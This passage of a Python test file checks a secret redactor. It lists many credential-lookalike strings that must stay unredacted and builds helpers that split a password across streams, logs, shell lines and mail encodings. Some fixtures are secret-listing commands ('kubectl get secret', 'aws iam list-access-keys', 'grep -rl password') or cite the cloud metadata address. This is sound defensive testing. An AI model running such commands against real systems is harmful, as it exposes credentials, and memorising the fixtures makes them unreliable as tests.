        "\u0432\u0435\u0440\u0441\u0438\u044f v2 \u0438 API-\u043a\u043b\u044e\u0447 \uff21\uff11: pass is made",
        "name = 't3qz8k1m4v7w2x9y5b6n0c'; notion page: 8f3b2c1d4e5f60718293a4b5c6d7e8f9",
        '{"zone": "023e105f4ecef8ad9ca31a8372d0c353", "provider": "cloudflare"}',
        "Sentry Event: 8f3b2c1d4e5f60718293a4b5c6d7e8f9",
        "connect('localhost', 'admin'); api: v1beta1; login('bob', password)",
        '{"element": "Forgot password link", "text": "Forgot"} {"type": "password", "placeholder": "Password"}',
        "passphrase: please enter your new passphrase; password = the quick brown fox",
        '<string name="forgot_password">Forgot your password?</string> <input name="password">',
        "subnet-private: subnet-0a1b2c3d4e5f67890; project_key: PROJ; secret_id: projects/1/secrets/x",
        "the password of a new user is required, the password in step 2 is checked twice; ssh-keygen -N '' -f key",
        "kind: ConfigMap\ndata:\n  LEVEL: debug123456\n---\nkind: Secret\ndata: {}",
        "https://api.example/v1/3fa85f64-5717-4562-b3fc-2c963f66afa6/members",
        "$password = getenv(x); $token = null; password <- read_password(); tokens[] = split(line)",
        "heroku release v123 a1b2c3d; GRAFANA=10.4.2-security-01; vercel: my-app-9x8y7z6w5-acme.vercel.app",
        "    pass\n\n\nclass Klm5NextTextMLP(Qw2MoeMLP):\n    pass",
        f'("mark", "fg:#5f819d"),  # token in front of it\nput("{UNNAMED}")  # cache key',
        "xxxxxxxx-xxxx-4xxx-yxxx-xxxxxxxxxxxx 12345678-abcd-efgh-ijkl-1234567890ab pod/acme-worker-7d4b9c6f5b-x2x9z",
        "getHTTPResponseAsJSONOrXMLFromURLById aBcIsNoNameOfAnythingButIsOfWords; Authorization: Bearer mytokenvalue",
        "commit 3951cbdfb2e64721ab7bf9880d14fdaa14dd5ebc\nAuthor: Bob\nDate: Mon",  # no line that a terminal cut
        "script-src 'nonce-D1eZnMSKlCuf3o0mQuZewC==' 'strict-dynamic'",
        'If-None-Match: "MkYhS8uXL7Mcfj7WaOxikNf-3c8"',
        "x-amz-id-2: D9mIsXA9SFlOyy6a9T2iu9au5qBizW0aUoNh+FaLRkrM16kysasgzEbXP0+xRgSsBH7VWnX/u2y=",
        "|1|8WwIzo+Ey737hjIrSjw1qXQlPon=|zn0Wbd4ctWqGJtiYprUrkaffGFt= ssh-rsa",  # a known host
        "src: url(data:font/woff2;base64,d09GMgABTCO5P05Z9faiQ9eeuNvHViStnOEEll+bVyCpZuNvvWRbWjMNK4lAFrHnqryhgOHS3)",
        "OPENAI_API_KEY=sk-xxxxxxxxxxxxxxxx",  # of a manual
        "postgres://user:password@localhost/db",
        "mysql -u root -p shop",  # asks for the password; shop is the database
        "a/__pycache__/patches.cpython-311.pyc,, a/x.py,sha256=sk_bJkC1VTNz9STPygp9WigFOc4yKFXbXJzz7vnNA7c,2346",
        '"AWS::KMS::Key": "88e734780d711c68", "AWS::IAM::AccessKey": "bf29289b78d371e3"',
        "docker run --rm -v `pwd`:/data cfn-lint:latest /data/template.yaml",
        "python-mnemonic\n===============",
        "ssh_private_key: ~/ray-bootstrap-key.pem",
        'return b&&("text"===a.type||"password"===a.type)||"search"===c',
        "e.crossOrigin===`anonymous`?t.credentials=`omit`:t.credentials=`same-origin`",
        '{"buildId":"PgS8NoZQ7W56rS06Sgjvx","class":"OpsRoot_opListItem__WLck7"}',
        "user_01h455vb4pex5vsknk084sn02q main.8f3b2c1d4e5f60718293.js",
        "nrefs:1|bs:1000|seed:12345|case:mixed|eff:no; outer.update(password.translate(_trans_5C))",
        '<label for="password">Password</label> <li>[`2fa8170e51`] repl</li> token[:-1]',
        "secrets:\n  db_password:\n    from: vault\nkey=pk_live_TYooMQauvdEDq54NiTphI7jx; ${DB_PASSWORD:-}",
        "$ git log -1 --format=%H -- src/token.py\n9c1185a5c5e9fc54612808977ee8f548b2258d31",
        "$ grep -rl password .\n./app/models/user2.py\n$ ls secrets/\nprod_v2.yaml\n>>> len(tokens)\n32768",
        "$ kubectl get secret -o name\nsecret/db-x7f2k\n$ aws iam list-access-keys\n2025-01-03T10:11:12Z",
        "xdotool key ctrl+alt+F2; POST /users/12/reset_password HTTP/1.1; password varchar(255) NOT NULL",
        "Cache restored from key: node-cache-Linux-x64-npm-056385d198433a3c525e82a55e31d8b11bc40166",
        "Passwords are kept in step2\nPASS src/app_2.test.js\nsalt = make_salt(); pin: 17; otp = totp.now()",
        'password1 = forms.CharField(); password2 = None; fields = ("username", "password1", "password2")',
        'tokens = ["the", "cat", "##ing2"]; secrets:\n  - db_password\n  - source: api_key_v2\n',
        'name, key = "first_name", "id2"; enable secret storage in step2',
        "/usr/share/P@ssw0rd22/x; letmein42.x = 1",
        # a selector or a resource that is called so, and what stands between two strings
        'this.loginPassword = "#login-password"; ResetPassword = "arn:aws:iam::aws:policy/ResetPassword2"',
        """print 'password = '.$row['x2']['daemon'].'\\n'; passwordLabel:"Password:",more2:"Stay:\"""",
        '{"/docs/3.0/choosing-a-strong-password": "/docs/server@3.0/auth"}',
        # names and expressions of Perl, PHP, C and JavaScript, placeholders of manuals, links of Markdown
        "use Encode::KR::2022_KR; my $pwd = $ftp->pwd; my $pass = $row->{pass}; GIT_ASKPASS: 'echo'",
        "$keys = ['USERPWD', 'HTTP200ALIASES', 'KEYPASSWD', 'KRB4LEVEL']; {\"pwd\", PyInit_pwd},",
        "headers['proxy-authorization'] = `Basic ${Buffer.from('user:pass').toString('base64')}`",
        "chdir $pwd;\ndie $@ if $@;\n$x = $P::Config->{password};",
        "if ($ENV{'PWD'} and $^O ne 'MSWin32') { x",
        "CPAN::HTTP::Credentials->clear_credentials; EXTRA_SIG => 0x08064b50; login('me', \"$Config::Config{cf_x2}\")",
        "$name = $mode eq 'proxy' ? 'Proxy-Authorization' : 'Authorization'; Buffer.prototype.writeBigUInt64BE, 8",
        "withCredentials: kEnumerable2; prompt.password('New password: ')",
        "char * buffer2;\nsize_t * counts32 /* x */\nchar * utf8name = x;",
        'openssl req -new -sha256 -key my-dev1.pem -out my.pem; {"PWD": "/srv/x",\n "LANG": "en_US.UTF-8"}',
        "base                  *  /srv/.pyenv/versions/miniconda3-3.9.1",
        # names that begin as keys do, types, docstrings, values that are taken apart
        "fw_gm.graph.find_nodes(); fw_metadata.traced_tangents_descs2; sk_X509_NAME_new_null(); api-ms-win-file-l2-1",
        "enum class LinesSignature : uint32_t { x }; {'pull_secrets': 'list[V1LocalReference]'};",
        "X509_PKEY *X509_PKEY_new(void);",
        'def _sas(l1, l2):\n    """Return the side with length l2 on the x-axis."""',
        "login, account, password = auth_from_netrc\nuser, password = auth\npermute(SA, axes=(1, 0))",
        'useful in :meth:`nn.MaxUnpool2d`, then pass :data:`h11.CLIENT`. It is identified by "code2"',
        "Use the --username and --password options; f(root, s3, check=False)",
        'tool create --key="my-key" --pairing-key=my-key --token=value\n[`v8.startup2` API]: v8.md#startup2-api',
        # a call with a user and a password, an address and a product in brackets, ids and words of a model
        "login(user, password=None, timeout3=retry30s); User(password=pw, role_id2=admin1x)",
        "127.0.0.1 (nginx/1.25.3), 127.0.0.1 (linux/arm64v8); ssh: keys/id_rsa2; valid/pass through step2b",
        "tokens = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14]; tokens = ['under', '##stand', 'ing', 'Gword12']",
        "the license key: see LICENSE-TERMS; http://shop.test/p/w5/items and then abc1234x",
        # pages of a list and tokens of a text; names of several words, objects of a store, a container's start
        '"next_token": "AAbbccdd12345678eeff", page_token: Q2hJSURSQUFHaEFJQVJJQUdBRWlC, stop_token=<0x0A17>',
        "TOOLS-getUserByEmailAddressAndName, api-convertUtf8StringToBase64, sk_GENERAL_NAMES_new_reserve",
        "objects/0/279b6ba51a9da30b6416919d82e64ace, img_507f1f77bcf86cd799439011, build_29ba5ab5_step2",
        "token = 'tokenizer22', auth: 'oauth2', cache_key = 'user-key-123456', token_type = 'token-type-22'",
        "Authorization: oauth2, authorization: v2beta, Authorization: Bearer token, auth = 'basic-auth-01'",
        "1718012345:ApplicationStartedEventHandlerInitializer; rev 00000000-0000-0000-0000-000000000000",
        # identifiers of words with both cases and digits, pointers, types of GraphQL, variables of psql, cmdlets
        "int i2d_PKCS8PrivateKeyInfo_fp(FILE *fp); sk_ASN1_UTF8STRING_deep_copy(); getHostCPUNameForS390x()",
        "SRP_user_pwd *SRP_VBASE_get1_by_user(SRP_VBASE *vb);\n const PKCS12_SAFEBAG *bag, const char *pass",
        "mutation Login($email: String!, $password: String!); CREATE ROLE app PASSWORD :'app_password';",
        '$pw = Read-Host -AsSecureString "Enter password"; using ModulePass::doInitialization;',
        "SIGNATURE_HMAC = SIGNATURE_HMAC_SHA1; METHOD: 'trust', 'password', 'scram-sha-256'; kpasswd\t\t464/udp",
        'POSTGRES_PASSWORD: "${POSTGRES_PASSWORD:?set a password}"; password: SecretValue.secretsManager("prod/db")',
        "  - user: deploy\n    update_password: on_create\npasswd:         files",
        'def get(self, key: str) -> str:\n    """[rows] how often, with replacement (1993)"""',
        "enum {\n    DUP_TOKEN, /* 541 */\n    TREE_NOT_UTF8, /* 1303 */\n};",
        "words = (\n 'mypw loginpw '\n 'sshpw webpw one2'\n)",
        "PEM = ('-----BEGIN RSA PRIVATE KEY-----', '-----END RSA PRIVATE KEY-----'); x='-----BEGIN PRIVATE KEY-----'",
        "gpg: key 0x3B4FE6ACC0B21F32: public; spotify:track:6rqhFgbbKwnb9MLmUQDhG6; ?list=PL590L5WQmH8fJ54F369BLDSq",
        '{"kty": "EC", "x": "f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU"}',
        "Set-Cookie: session=; Max-Age=0; Path=/; SameSite=Lax",
        "Reason: unknown user name or bad password. Status: 0xC000006D",
        # the word for a password in another language, scripts without spaces
        '{"login.password": "Passwort", "es": {"password": "Contrase\u00f1a"}}',
        "\ube44\ubc00\ubc88\ud638\ub294 8\uc790 \uc774\uc0c1",
        "\u5bc6\u7801\uff1a\u5fc5\u586b\u9879\u3002\u53e3\u4ee4\u6709\u6548\u671f30\u5929\u3002",
        # chapters and versions, pages called home, accounts of systems, ids of pages, licences
        "// C99 6.3.1.8, [27.7.1.2]; Require libXext 1.0.99.4; https://x.example/en/home/tables; src/app/home/list.tsx",
        "-rw-r----- 1 root www-data 84 Mar  4 10:22 x\n/home/node/app; Clause 252.227-7013; /testcase/5390364397928448",
        "License: LGPLv2.1+ or CC-BY-SA-3.0-Unported\nLicense: X11R5-permissive\nwith pypa/distutils@274758f1c02048d29",
        # names with a piece of an escape: colours, JSON's letters, entities
        "\x1b[1;32mcus_NffrFeUfV2Hib4x8\x1b[0m e3b0c442; \x1b[32m@app.post\x1b[0m(token); password \x1b[0mtwice\x1b[0m",
        'Output: {"text": "Das Kennwort wird ge\\u00e4ndert; der Schl\\u00fcssel"} done',
        "<pre>nlp(&quot;The password is strong&quot;)]</pre>",
        # lines that a diff adds, the margin of the next line, strings beside each other, rules of a validator
        "+@pytest.fixture\n+2025-11-12 18:21:12,004 WARN x\n+Master-Key: \n+Early data",
        """read -rsp "Password: "\\nmysql -u root -p"$pw" < x; getpass("Password: "):\n    raise X("no match2")""",
        "'password' => 'required|string|min:8'; ## secret --secret=db-password --project=x; secretKey: db-password",
        # masked values, public keys and certificates in one line, addresses of wallets, the ids of an agent and a mail
        '{"password": "[Filtered]"}',
        "p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC7vbqajDw4o6gJy8UtmIbkcpnkO3Kwc4qsEnSZp",
        "gpg: using RSA key 4AEE18F83AFDEB23AABBCCDD00112233AFDEB230; agent.f9f77d1a-437f-4ba6-890e-b592a50cbd21",
        'stdout = "0x742d35Cc6634C0532925a3b844Bc454e4438f44e"; Message-ID: <CAH8yC8kT2r7bV0xLm5ZqW3nJ9@mail>',
        "-----BEGIN CERTIFICATE-----\nMIIDdTCCAl2gAwIBAgILBAAAAAABFUtaw5QwDQYJKoZIhvcNAQEFBQAwVzELMAkG\n"
        "A1UEBhMCQkUxGTAXBgNVBAoTEEdsb2JhbFNpZ24gbnYtc2ExEDAOBgNVBAsTB1Jv\n-----END CERTIFICATE-----",
        # single letters of a program, a library called so, the choice of a field's type, a pass of a compiler
        "if mode not in ('r', 'w', 'x', 'a'):\n    raise ValueError('password')",
        "if opt == '-f': pass\nif opt == '-p': password = ask()\nif opt == '-q': quiet()\nif opt == '-z': pack()",
        "if isinstance(other, UserList):\n    self.data.extend(other.data)\nelse:\n",
        "def user():\n    import pwd\n    return pwd.getpwuid(os.getuid())[0]\n",
        # numbers and types of C, types of a schema, scopes of a service, hashes that stand beside names
        "bool key_of(const PKCS12_SAFEBAG *bag, const char *pass, uint64_t seed = 0x9ddfea08eb382d69ULL);",
        "class Input:\n    description: str\n    password: bool\n\n\nclass Server:\n    token: boolean?\n",
        '"endpoints": {"eu-west-1": {"credentialScope": {"region": "eu-west-1", "service": "ecr-api-2"}}},\n',
        '"OAuth2Credentials": {"$ref": "#/definitions/OAuth2Credentials", "description": "The OAuth 2.0 one."}',
        '{"AWS::DataZone::Domain": "9f534c0412fb6e85", "AWS::DataSync::Task": "5ce0bc0a4a34bba5", '
        '"AWS::EC2::EIP": "9424cc2cdbe0ea3d", "AWS::EC2::Host": "04bf2d4bce59b6a5"}',
        "type={shown ? 'text' : 'password'} and type={hidden ? 'password' : 'text'}; the pass registry.",
        "| Key | Module |\n|---|---|\n| OS key | [OS](os.html) |\n| A key | [Bar](x2.html){#b} |",
        "salt:r},Ht),i,8*(Gt[t]*2+2)),o=new; key=e.Kt[n](r2),t=Q8; secret:[a-zA-Z0-9/_+=.@]{1,2028}$; token: ${Ab1}",
        "ssh://git@code.example/acme/keys.git (push); host/web1.example.org@EXAMPLE.ORG; openssl@3--3.2.1.tar.gz",
        "WhatsApp-Image-2025-02-10-at-10.22.31.jpeg from http://169.254.169.254/latest/meta-data/",
        "example.org/x v0.21.0 h1:0CPkSWARufqlOwWKLjJyM+T0PreLgaf/TCzlHJcfqA4=\n"
        "example.org/y v0.18.0 h1:G3Pk2hjW4UXsz0yhshupwh9gu5JFU9sJDgCgFZXgzsL=",
        "wheel for detect-secrets: filename=detect_secrets-1.4.0-py3-none-any.whl size=120341",
        "db-password                Opaque                                1      12d\n"
        "default-token-thu5a        kubernetes.io/service-account-token   3      41d",
        "checksum/secret: adf1ed399eb30e0cd6e3292db4ea79370381af9e93ad481f2fff77e6877f819f",
        "password: {{ .Values.auth.password | b64enc | quote }}",
        "urn:pulumi:prod::infra::random:index/randomPassword:RandomPassword::db-password",
        "api_key: \"{{ lookup('hashi_vault', 'secret=secret/data/app:api_key') }}\"",
        'Cache hit for key "setup-go-Linux-x64-1.22-0027a21b3524c7bb70bed8f553b79a5bce06aa288b801522a32328da8d6a75df"',
        "arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/db-TwYY5z\n"
        "arn:aws:states:us-east-1:123456789012:execution:RotateSecret:046ea7ef-9cb0-87c7-9f63-ba5647d477c7",
        "https://www.google.com/search?q=password+manager&sca_esv=6841e4d322ca0887&ei=HlD6Lfre9I3DEPiMIyIqlU",
        "https://shop.example/?gclid=Cj0KCQcmmioGQqmtwr6x8K3XNNG2zKQT9mMXGBS9ewCdaZgmAM5xfAX4UHk7cFKS9m",
        "components: {securitySchemes: {oauth2: {clientCredentials: {tokenUrl: https://auth.example.org/oauth/token}}}}",
        "bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLG",
        'pin-sha256="xhIUvgpI9a6yIQWXhAq+Vd8oyOcfGFuX032LWKQMeM5="; "CodeSha256": "5tT2qgzYUHaqwR716pZ2dpkn/0J1FrzJm="',
        "-----BEGIN PGP SIGNATURE-----\n\niQIzBAABCAAdFiEEqsCeLJs/IUoDrlDz7PrCEm/90lGspOxUgPown\n=Xy9z\n",
        'export ANTHROPIC_API_KEY="sk-ant-..."; api_key: sk-...x4Qz; "password": "TODO"',
        'struct Login { #[serde(rename = "pass")] password: Option<String>, token: Secret<String> }',
        "  -p password, --password=password\n     The password to use.",
        "The password is case-sensitive. The token is missing.",
        '"nextPageToken": "cGGuDHkDC08WttDqEdEV_NMm4VXfd9fH21NOesDb", "NextToken": "eyJOZXh0VG9rZW4iOm51bGwsIm9=="',
        'example.org. TXT "acme-site-verification=uoj7izu-nn2KgMrBjXWclYPCeOwjfjiSZ7gHPmhS0fh"',
        "done. pack-8b938b4e9fbc605292365a08454c1cadb4d2cb4a.idx; main-0a1b2c3d4e5f60718293a4b5c6d7e8f9.js",
        "Cookie: theme=dark; cookieconsent_status=dismiss; tz=Europe/Berlin",
        "Sec-WebSocket-Key: u2/CtuIkp5Zj+kEPxBH1bH==\nMessageSid SMe490cc17c58dd709197e7e040666914d",
        "Setting up passwd (1:4.13+dfsg1-1+b1) ...\nNO_PUBKEY 4D8ACB3903D496D3",
        '<label for="pw">Password</label><input name="password" type="password">',
        '#EXT-X-KEY:METHOD=AES-128,URI="https://example.org/keys/12.key",IV=0x5a2cee7717184d84eaae9e15b96c4a49',
        "$ aws x --protection-id a1b2c3d4-5678-90ab-cdef-EXAMPLE11111 --service-id srv-p5zdwlg5uvvzjita",
        "salt '*' influxdb08.user_exists <name>; source: salt://application-web-0.39.war",
        'def get_inspected_key(self) -> str:\n    return "api_server/[0]/authorized_ip_ranges/[0]"',
        "this.metaKey=e.metaKey,this.pointerId=e.pointerId||0,this.pointerType='mouse'",
        'CIPHERS = "HIGH:!aNULL:!MD5:!PSK:!aECDH:!EDH-DSS-DES-CBC3-SHA:!KRB5-DES-CBC3-SHA"',
        "containsKey(t){return this.store.contains({key:t})}get(t){let e=this.store.get({key:t});if(e)return e}",
        ".button:hover{color:rgba(255,255,255,.6)}@media (forced-colors:active){} 2013-03-21:514B5D8A.6040705@dark",
        "1.11.0+dev.d6d9d8cd4f27c52edac1f537e236ec48a01e54cb.dirty in models/jina_embeddings_v3/modular_jina_v3.py",
        "from socialaccount.base import OAuth2TestsMixin; --tag-key 'usergroup' --kms-key AWS_OWNED_KMS_KEY",
        'return "metadata/[0]/serial-port-enable"; "DbPassword": "*****FILTERED*****"',
        "x-vercel-id: fra1::iad1::m65so-3701654536811-1b2c9a29174c\nfly-request-id: 0a1b2c",
        "a Workspace ID (for example, `wrkspc_011CZkZaBF1tNoB5wlCeusgy`), key/1234abcd-12ab-34cd-56ef-1234567890ab",
        "Add the release key 9AA9BDB11BB1B99A21285A330664A76954265E8C to signing-key.asc",
        '{"Sid": "stmt1469123904194", "Effect": "Allow"} {"dsl": "Danish", "dsn": "Dusner"}',
        "const ASN1_UTF8STRING *token);\nASN1_UTF8STRING\n*token_of(int key); max cell rate:  1412830.188 cells/sec",
        "#define NPY_NO_DEPRECATED_API  NPY_1_7_API_VERSION\nvoid pwd_free(user_pwd *pwd);\nOSSL_DEPRECATEDIN_3_0\n",
        "New Pass Manager uses UTF-8 for passwords of non-PKCS#12 files; crypto_pwhash_scrypt208sha256* functions",
        "api_key: config2]environmentName]accountOf3People; token = nextPageToken; key: rows[keys[index3]]withoutName",
        "        reset(token: ID!, password: Password! @constraint(minLength: 12)): Boolean!\n",
        "Owner : constant String; Password : Unbounded_String;\n{Promise<{token: string, secret: Uint8Array}>}",
        '/^    password: SecretStr$/;"\nconst char* encryption_key = nullptr;\n',
        "  -i IDENTITY, --key IDENTITY\n      --key=KEYFILE\n     Read it.\n  --token token\n      API token\n",
        '{"login": {"password": "Passwort", "secret": "Geheimnis", "token": "Zugriffstoken"}}',
        '{"password": ["min:12"], "errors": {"secret": "is invalid", "passwd": "too short (at least 12 characters)"}}',
        '<input type="password" name="password" :placeholder="$t(\'login.password\')" />',
        "await page.fill('input[name=\"password\"]', process.env.E2E_PASSWORD!);",
        "COUNT = 0\nKEY = 000102030405060708090a0b0c0d0e0f\nPLAINTEXT = 00112233445566778899aabbccddeeff\n",
        "apt\tbase-passwd\t3.6.1\napt\tbinutils-common:amd64\t2.40-2\napt\tclang-format-14\t1:14.0.6-12\n",
        '"minipass": "^7.0.2", "secret": "change-me"\n    ERR_BAD_PASSWORD = 4349,\n',
        "Passwort: wird nie gespeichert. Schl\u00fcssel: eindeutig je Tabelle.",
        "-L\n\u30d1\u30b9\u30ef\u30fc\u30c9\u3092\u30ed\u30c3\u30af\u3059\u308b\u3002"
        "\n\u3053\u308c\u306f\u6697\u53f7\u5316\u3055\u308c\u305f\u524d\u5f8c\u306e"
        "\u5148\u982d\u306b\u4ed8\u3051\u308b '!' \n",
        "return{secretKey:e,sharedKey:await zr(M.publicKey.x25519,t.subarray(1),e)}; privateKey:q(n.d)}}(this.name)",
        '=IF(ISBLANK(Password!B3),"no password",1)\nCredentials: Sheet1!A1:C9\n',
        "BEGIN:VEVENT\nUID:k4p98j3x8dx7bt887v05\nEND:VEVENT\nPassword policy: MinimumPasswordLength=14; PINs: 6\n",
        "Incorrect API key provided: sk-****yWp9. Password: 8/10.",
        "If a password is asked for, press Ctrl+Alt+F2.",
        '{"progressToken": "iq4fu5un-943", "_key": "da348ca1e595", "_rev": "Qx3wRLG7ydKGF4nRDkXwqe", "pin": "P1_08"}',
        'The password field is input#pwd2; data-reactid=".0.$token" data-v-20f386fb>',
        "RST_PIN = GPIO_NUM_57; citationKey: ada2012knuth",
        "Token 0x7cc1649da20262142bfa32fd7afb99576aa0da8e; https://img.example.org/a.jpg?ixid=M3wFWO1_SAmKNU_zMFEj8A43",
        "DKIM-Signature: v=1; a=rsa-sha256; s=key1; bh=5sZyvRF5jVva5jKUyRB7WRcZR4xsMH0dLHGfnTEkZx0=;"
        " b=e1PntHZRf4vMxmPlKWkJBUxjmj1NSmoFalo4hmbNXuw6bcQ1\nX-Gm-Message-State: AOJu0Yx9SLpcnUsRfxbLogD9x7I6gHY\n",
        '{"reference": "ChIJgKl8htfyaNihwhq8uSQRDCP", "clickTrackingParams": "CAGRl3uMJSYMrwrZVSXapJxT7FvqTKT1cZYt6j"}',
        '{"\u0120password": 9206, "\u0120token": 11241, "passwd": 47461}',
        "no element #password\nElement id: f.C53D17892A8D0F2D8D251C8331387B1D.d.FBBD171C817C81E0DFCF837BC6F0705F.e.1",
        "Wachtwoord: minimaal acht tekens. Geslo: vsaj osem znakov. Jelsz\u00f3: 8\u201364 karakter.",
        "Salasana on virheellinen.Enter your PIN. Kata sandi: minimal delapan karakter.",
        "flags = ACME2_FLAG_CLEAR_PASSWORD | ACME2_FLAG_CLEAR_SECRET; requests.get(url, auth=('user', 'pass'))",
        "sed 's/token_v1/token_v2/; s/secretName/credentialName2/' x; the key to sorting is: order2 of key1 (see key2)",
        "sed 's/password1/bcrypt2y_hash/' x; the password's utf8 length; env vars LOGIN_USER1 are the credentials",
        "cat > keys.md <<EOF\nchapter-2\nEOF\nthe token of type2 is value3; replace the key with primary_key_2 as key",
        f"docker run -u 1000:1000 -e UID={uuid.UUID(int=7)} x && chown -R deploy-user-of-staging: /srv",
        '{"deployments": {"key": "c2f7a91e0b6d4835e1f09a7c5d3b8264f0e1a9c7"}, "author": {"username": "a"}}',
        '<input type="submit" name="change_password" class="b" value="Submit"> maps the key to generated_value_of_it',
        "dist/assets/index-BxY3kQ9z.js.map and Button_primary__aB3xY.module.css in webpackChunk_N_E.prototype",
        "481516234200-w3k9x0q7zt4m1v8b2n6c5hj0r4yd1sga.apps.example.com",
        "part-00000-5b8f7c3e-1a2b-4c3d-9e8f-0123456789ab-c000.snappy prometheus-operator-5d7f9c8b6d-x9z2k-4f7b8",
        f"the cache key has been created: {REST}; I type 'release-7a2' into the search field, not the password",
        '<label>Password</label><input value="Show it"><a href="/x?page=2&lang=en">',
        "- generic [ref=e9]: Forgot your password? Ask\n- code [ref=e10]: release-7a2\n- text: Sign in",
        "UPDATE conf SET value = 'blue7' WHERE name = 'colour'; \x1b[90m password \x1b[0m of \x1b[1;32mbob\x1b[0m",
        "-   DB_PASSWORD: '-------- # (24 bytes)'\n+   DB_PASSWORD: '++++++++ # (32 bytes)'",
        '"client_token": "hmac-sha256:' + "0f1e2d3c4b5a69788796a5b4c3d2e1f0" * 2 + '", "secrets": "inherit"',
        '"Resource": ["arn:aws:secretsmanager:*:123456789012:secret:prod/*"]; secret=staging/db:password',
        '"issuer_key": "acme-v02.api.example.org-directory"; token=glcbt-64 of a log; sort -k2 --key=3n tokens.csv',
        "  v1/Secret:\n    - prod/api-token-02otn\n    - prod/db-password\nResources",
        '"csrf-tokens": ["csrf-tokens@2.0.0", "", {}]; "private": "eyJzY2hlbWFfdmVyc2lvbiI6IjEifQ==", "sensitive": 1',
        "Get 'aws/configure-credentials@v4' (SHA:6f7470ea8a2d598bc9454cbbc03729e85be754b9)",
        "No cache is found for key: v2-deps-3H/7pFuCEPMrNrqQNE3VeEPRUXoilGLPBteb6zuAuBN=",
        "NAME  PROPERTY  VALUE  SOURCE\ntank/secrets  guid  7146898847242837198  -",
        "key  value\naccessor             9tJgIzNvNKEuSl9XAHzDCuX5\ncreation_time        1739265164",
        "Stored Cache to yarn-packages-v3-SdESgtf167WKdEWWbaf7hyE4iqXfkb9oGyTMFr1gNs4=, as planned",
        "wrapping_accessor:               XuoYhDILjNF0b7kYFZltfWHm",
        "cookie hash    : jk1oCYT5y93Vw4N8U3lMXy==; ; COOKIE: 9a9d038e234ebdf09aa7b77664cf0a84 (good)",
        "ssh_pwauth: false\nlock_passwd: true\nkeys:\n  - ssh-ed25519 "
        "AAAAC3NzaC1lZDI1NTE5AAAAT1LkiDprhvy052+v4x9GENe2ZhBMjEsZ6HVhlLek5Zu ops",
        "set the secret of version 56c5ca10-aabd-4d48-8019-0f0efa756b5d.\nsetSecret: Successfully set it",
        "=== RUN   TestResetPassword/empty2\n    --- PASS: TestResetPassword/empty2 (0.01s)",
        "PASS: tests/api/keys2.t\nPASS: gcc.dg/pr40512.c (test for excess errors)",
        "PATH=/usr/local/bin:/usr/bin\nGPG_KEY=8D21F0A77C39BA821ECEA86B64E628F8D6846E1B\nLANG=C.UTF-8",
        "UUIDv7 0190fd59-8af7-7c44-8c7b-f56b622ba0cc\nULID 01HSABCDEF",
        "FileRepository\\iigd_dch.inf_amd64_e3b085a799ab41d4\nMicrosoft Edge 120",
        "symbols _RNvMs_NtCs4187_7mycrate5parseNtB4_6Parser4next and _ZN7mycrate5parse6Parser4next17h0a8f3c2b7d91e645E",
    ],
)
def test_what_only_resembles_those_stays(text: str) -> None:
    assert Redactor().redact(text)[0] == text


def cut_up(text: str, size: int = 5) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def wrapped(text: str, width: int, margin: str) -> str:
    return "\n".join(margin + line for line in cut_up(text, width))


SAID = "We deployed it at noon. The database password is {} and it will be changed after the release."
PRINTED = "LOG_LEVEL=info\nDB_PASSWORD={}\nPORT=80\n"
CUT: dict[
    str, tuple[Callable[[str], str], Callable[[str], str]]
] = {  # a text as something cut it, and what puts it together again
    "server-sent events": (
        lambda v: "\n\n".join(f"data: {json.dumps({'delta': {'content': one}})}" for one in cut_up(SAID.format(v))),
        lambda out: "".join(json.loads(f'"{one}"') for one in re.findall(r'"content": "((?:\\.|[^"\\])*)"', out)),
    ),
    "arguments of a call": (
        lambda v: "\n".join(
            json.dumps({"type": "input_json_delta", "partial_json": one})
            for one in cut_up(json.dumps({"command": f"export DB_PASSWORD='{v}'"}))
        ),
        lambda out: "".join(json.loads(f'"{one}"') for one in re.findall(r'partial_json": "((?:\\.|[^"\\])*)"', out)),
    ),
    "recording of a terminal": (
        lambda v: "\n".join(json.dumps([at / 10, "o", one]) for at, one in enumerate(cut_up(PRINTED.format(v), 3))),
        lambda out: "".join(json.loads(f'"{one}"') for one in re.findall(r'"o", "((?:\\.|[^"\\])*)"', out)),
    ),
    "strings of a program": (
        lambda v: f'db_password = "{v[:6]}" + "{v[6:]}"',
        lambda out: out.replace('" + "', ""),
    ),
    "lines of a program": (
        lambda v: f"config = {{'user': 'bob',\n 'db_password': '{v[:6]}'\n                '{v[6:]}'}}",
        lambda out: re.sub(r"'\s+'", "", out),
    ),
    "a quotation": (lambda v: wrapped(SAID.format(v), 52, "> "), lambda out: out.replace("\n> ", "")),
    "a log": (
        lambda v: wrapped(SAID.format(v), 52, "2026-01-01 10:00:00 INFO  "),
        lambda out: out.replace("\n2026-01-01 10:00:00 INFO  ", ""),
    ),
    "a margin that nobody listed": (
        lambda v: wrapped(SAID.format(v), 52, "[pod/web-7d/app] "),
        lambda out: out.replace("\n[pod/web-7d/app] ", ""),
    ),
    "the bytes of an array": (
        lambda v: f"db_password = bytes([{', '.join(map(str, v.encode()))}])",
        lambda out: "".join(chr(int(one)) for one in re.findall(r"\d{2,3}", out)),
    ),
    "keys that are pressed": (
        lambda v: "\n".join(["focus input[name=db_password]", *(f"keypress '{one}'" for one in v)]),
        lambda out: "".join(re.findall("keypress '(.*)'", out)),
    ),
    "a list of chunks": (
        lambda v: json.dumps({"output": cut_up(PRINTED.format(v), 7)}),
        lambda out: "".join(json.loads(out)["output"]),
    ),
    "a cell of a table": (
        lambda v: f"| Password | {v[:8]} |\n|          | {v[8:]} |",
        lambda out: out.replace(" |\n|          | ", ""),
    ),
    "a line of a shell": (lambda v: f"export DB_PASSWORD='{v[:8]}\\\n{v[8:]}'", lambda out: out.replace("\\\n", "")),
    "a mail": (
        lambda v: f"Content-Transfer-Encoding: quoted-printable\n\nDB_PASSWORD=3D'{v[:9]}=\n{v[9:]}'\n",
        lambda out: out.replace("=\n", ""),
    ),
    "letter by letter": (lambda v: f"DB_PASSWORD: {' '.join(v)}", lambda out: out.replace(" ", "")),
}


@pytest.mark.parametrize(
